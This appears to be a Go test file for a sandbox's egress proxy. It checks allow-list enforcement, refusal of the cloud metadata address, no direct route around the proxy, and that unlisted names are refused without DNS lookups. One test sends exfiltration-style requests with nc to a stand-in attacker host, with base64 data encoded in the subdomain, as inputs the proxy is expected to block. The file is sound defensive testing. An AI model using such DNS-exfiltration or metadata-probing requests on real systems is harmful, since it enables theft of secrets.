package local_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/slipway-dev/slipway/pkg/execution/egress"
	"github.com/slipway-dev/slipway/pkg/execution/sandbox"
	"github.com/slipway-dev/slipway/pkg/execution/sandbox/local"
	"github.com/slipway-dev/slipway/pkg/execution/sandbox/runner"
	"github.com/slipway-dev/slipway/testharness/dnstest"
)

// hostIPv4 is a non-loopback address of the host: a sandbox's 127.0.0.1
// is its own loopback, so a host server it may reach listens here.
func hostIPv4(t *testing.T) string {
	t.Helper()
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && !n.IP.IsLoopback() && n.IP.To4() != nil {
			return n.IP.String()
		}
	}
	t.Fatal("the host has no non-loopback IPv4 address to test with")
	return ""
}

type attempts struct {
	mu  sync.Mutex
	all map[string][]egress.Attempt
}

func (a *attempts) record(id string, at egress.Attempt) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.all[id] = append(a.all[id], at)
}

func (a *attempts) of(id string) []egress.Attempt {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]egress.Attempt(nil), a.all[id]...)
}

// TestEgressAllowList: an allow-list sandbox reaches a listed host server
// through its proxy (plain HTTP and CONNECT), is refused another port and
// the metadata address, still has no route of its own, and every attempt
// is recorded, the open tunnel's too, by the time Delete returns.
func TestEgressAllowList(t *testing.T) {
	setup(t)
	ip := hostIPv4(t)
	ln, err := net.Listen("tcp", net.JoinHostPort(ip, "0"))
	if err != nil {
		t.Fatal(err)
	}
	origin := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, "hello from origin")
	}))
	var conns atomic.Int32
	origin.Config.ConnState = func(_ net.Conn, st http.ConnState) {
		if st == http.StateNew {
			conns.Add(1)
		}
	}
	origin.Listener.Close()
	origin.Listener = ln
	origin.Start()
	defer origin.Close()
	_, port, _ := net.SplitHostPort(ln.Addr().String())
	otherPort, accepted := hostListener(t, net.JoinHostPort(ip, "0"))

	rec := &attempts{all: map[string][]egress.Attempt{}}
	b := newBackend(t, t.TempDir(), local.WithEgressRecorder(rec.record))
	spec := specFor(t, templateImage(t, "", ""))
	spec.Network, spec.Allow = sandbox.NetworkAllowList, []string{ip + "/32:" + port}
	s := create(t, b, spec)

	if out, _, code := sh(t, s, "echo $HTTP_PROXY $https_proxy"); code != 0 || strings.TrimSpace(out) != "http://127.0.0.1:3128 http://127.0.0.1:3128" {
		t.Fatalf("proxy environment: %q (exit %d)", out, code)
	}
	if out, stderr, code := sh(t, s, fmt.Sprintf("wget -q -O - http://%s:%s/", ip, port)); code != 0 || out != "hello from origin" {
		t.Fatalf("allowed destination through the proxy: exit %d, %q %q", code, out, stderr)
	}
	// (stdin stays open a moment: nc ending its side at once would be a
	// client gone before the proxy dialled.)
	connect := fmt.Sprintf(`(printf 'CONNECT %[1]s:%[2]s HTTP/1.1\r\nHost: %[1]s:%[2]s\r\n\r\nGET / HTTP/1.0\r\n\r\n'; sleep 1) | nc -w 3 127.0.0.1 3128`, ip, port)
	if out, _, _ := sh(t, s, connect); !strings.Contains(out, " 200 ") || !strings.Contains(out, "hello from origin") {
		t.Fatalf("CONNECT to the allowed destination: %q", out)
	}
	// A tunnel is recorded when the proxy sees both sides closed, which
	// can come after nc has exited: wait for it, so that the attempts
	// below are recorded after it.
	for deadline := time.Now().Add(10 * time.Second); len(rec.of(s.ID)) < 2; time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the closed tunnel was not recorded: %d attempts", len(rec.of(s.ID)))
		}
	}
	// (busybox wget crashes on a proxy's 403: the request goes by nc.)
	for _, hp := range []string{ip + ":" + otherPort, "169.254.169.254:80"} {
		script := fmt.Sprintf(`(printf 'GET http://%[1]s/ HTTP/1.1\r\nHost: %[1]s\r\n\r\n'; sleep 1) | nc -w 3 127.0.0.1 3128`, hp)
		if out, _, _ := sh(t, s, script); !strings.HasPrefix(out, "HTTP/1.1 403 ") {
			t.Fatalf("denied destination %s: %q", hp, out)
		}
	}
	// No way around the proxy: the sandbox's own network has no route.
	if out, _, code := sh(t, s, fmt.Sprintf("nc -w 2 %s %s </dev/null", ip, port)); code == 0 {
		t.Fatalf("direct connection to %s:%s from an allow-list sandbox: %q", ip, port, out)
	}
	if accepted() != 0 {
		t.Fatal("the unlisted port accepted a connection")
	}
	// A tunnel left open is closed and recorded by Delete.
	go func() {
		script := fmt.Sprintf(`(printf 'CONNECT %[1]s:%[2]s HTTP/1.1\r\n\r\n'; sleep 600) | nc 127.0.0.1 3128`, ip, port)
		_, _ = s.Exec(context.Background(), runner.ExecRequest{Argv: []string{"sh", "-c", script}}, io.Discard, io.Discard)
	}()
	for deadline := time.Now().Add(30 * time.Second); conns.Load() < 3; time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the tunnel left open did not reach the origin")
		}
	}
	if err := b.Delete(context.Background(), s.ID); err != nil {
		t.Fatal(err)
	}

	all := rec.of(s.ID)
	var got []string
	for _, a := range all {
		got = append(got, fmt.Sprintf("%s %s allowed=%v", a.Method, a.Destination, a.Allowed))
	}
	want := []string{
		"GET " + ip + ":" + port + " allowed=true",
		"CONNECT " + ip + ":" + port + " allowed=true",
		"GET " + ip + ":" + otherPort + " allowed=false",
		"GET 169.254.169.254:80 allowed=false",
		"CONNECT " + ip + ":" + port + " allowed=true",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("attempts:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if a := all[0]; a.Rule != ip+"/32:"+port || a.BytesIn == 0 || a.BytesOut == 0 {
		t.Errorf("allowed GET: %+v", a)
	}
	if a := all[1]; a.BytesIn == 0 || a.BytesOut == 0 {
		t.Errorf("CONNECT without bytes: %+v", a)
	}
	if a := all[3]; !strings.Contains(a.Reason, "link-local") {
		t.Errorf("metadata refusal: %+v", a)
	}
}

func TestEgressSpecRefused(t *testing.T) {
	setup(t)
	b := newBackend(t, t.TempDir())
	spec := specFor(t, templateImage(t, "", ""))
	for name, tc := range map[string]struct {
		net   sandbox.Network
		allow []string
		want  string
	}{
		"allow with deny":      {sandbox.NetworkDeny, []string{"example.com:443"}, "Allow: 1 entries with network \"deny\""},
		"allow-list, no entry": {sandbox.NetworkAllowList, nil, "Allow: required"},
		"bad entry":            {sandbox.NetworkAllowList, []string{"example.com"}, "allow[0] \"example.com\""},
		"unknown network":      {"open", nil, "Network: \"open\""},
	} {
		spec.Network, spec.Allow = tc.net, tc.allow
		_, err := b.Create(context.Background(), spec)
		if !errors.Is(err, sandbox.ErrInvalidSpec) || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err = %v, want ErrInvalidSpec with %q", name, err, tc.want)
		}
	}
}

// TestEgressLooksUpOnlyListedNames (issue 37, finding 5): from inside an
// allow-list sandbox, names no entry lists (data in a name, over plain
// HTTP and CONNECT) are refused without a single DNS query at the proxy's
// resolver, a DNS server the test runs on loopback; a listed name is
// looked up there and reached at the address it resolved to.
func TestEgressLooksUpOnlyListedNames(t *testing.T) {
	setup(t)
	ip := hostIPv4(t)
	ln, err := net.Listen("tcp", net.JoinHostPort(ip, "0"))
	if err != nil {
		t.Fatal(err)
	}
	origin := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, "hello from origin")
	})}
	go func() { _ = origin.Serve(ln) }()
	defer origin.Close()
	_, port, _ := net.SplitHostPort(ln.Addr().String())
	dns := dnstest.Start(t, map[string][]string{"origin.test": {ip}, "leak.attacker.test": {ip}})

	rec := &attempts{all: map[string][]egress.Attempt{}}
	b := newBackend(t, t.TempDir(), local.WithEgressRecorder(rec.record), local.WithEgressResolver(egress.ResolverAt(dns.Addr)))
	spec := specFor(t, templateImage(t, "", ""))
	spec.Network, spec.Allow = sandbox.NetworkAllowList, []string{"origin.test:" + port, ip + "/32:" + port}
	s := create(t, b, spec)

	for _, script := range []string{
		fmt.Sprintf(`(printf 'GET http://c2VjcmV0.leak.attacker.test:%[1]s/ HTTP/1.1\r\nHost: c2VjcmV0.leak.attacker.test\r\n\r\n'; sleep 1) | nc -w 3 127.0.0.1 3128`, port),
		fmt.Sprintf(`(printf 'CONNECT leak.attacker.test:%[1]s HTTP/1.1\r\nHost: leak.attacker.test:%[1]s\r\n\r\n'; sleep 1) | nc -w 3 127.0.0.1 3128`, port),
		`(printf 'CONNECT origin.test:1 HTTP/1.1\r\nHost: origin.test:1\r\n\r\n'; sleep 1) | nc -w 3 127.0.0.1 3128`,
	} {
		if out, _, _ := sh(t, s, script); !strings.HasPrefix(out, "HTTP/1.1 403 ") || !strings.Contains(out, "not looked up") {
			t.Fatalf("unlisted destination: %q", out)
		}
	}
	if q := dns.Queries(); len(q) != 0 {
		t.Fatalf("the egress proxy looked up names no entry lists: %v", q)
	}
	if out, stderr, code := sh(t, s, fmt.Sprintf("wget -q -O - http://origin.test:%s/", port)); code != 0 || out != "hello from origin" {
		t.Fatalf("listed name: exit %d, %q %q", code, out, stderr)
	}
	for _, q := range dns.Queries() {
		if q.Name != "origin.test" && !strings.HasPrefix(q.Name, "origin.test.") {
			t.Fatalf("queries: %v", dns.Queries())
		}
	}
	if len(dns.Queries()) == 0 {
		t.Fatal("the listed name was not looked up at the proxy's resolver")
	}
	if err := b.Delete(context.Background(), s.ID); err != nil {
		t.Fatal(err)
	}
	all := rec.of(s.ID)
	if len(all) != 4 || !all[3].Allowed || all[3].Address != ip || all[3].Destination != "origin.test:"+port {
		t.Fatalf("attempts %+v", all)
	}
	for _, a := range all[:3] {
		if a.Allowed || a.Address != "" {
			t.Fatalf("refusal recorded as %+v", a)
		}
	}
}
